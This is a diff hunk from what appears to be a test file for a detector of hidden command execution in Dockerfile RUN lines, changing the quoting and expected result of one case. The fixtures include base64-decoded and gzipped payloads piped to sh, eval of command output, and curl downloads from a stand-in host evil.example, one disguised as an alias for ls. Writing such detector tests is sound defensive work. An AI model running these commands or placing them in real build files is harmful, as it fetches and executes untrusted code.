@@ -34,7 +34,7 @@ describe('programs that nobody read', () => {
     ['RUN echo c3RyYW5nZQ== | base64 -d | sh', ['2 strange']],
     ['RUN gunzip -c a.gz | sh', ['2 sh']],
     ['RUN printf "%s" "$X" > /tmp/s && sh /tmp/s', ['2 ${X}']],
-    ['RUN env -S "curl -O https://evil.example/x"', ['2 curl -O https://evil.example/x']],
+    ['RUN env -S "curl -O \\"https://evil.example/x\\""', ['2 $(env -S)']],
     ["RUN alias ls='curl https://evil.example' && ls", ['2 alias']],
     ['RUN eval "$(somebody)"', ['2 somebody', '2 eval']],
     ['RUN python3 -c "import os; os.system(\'x\')"', ['2 python3']],
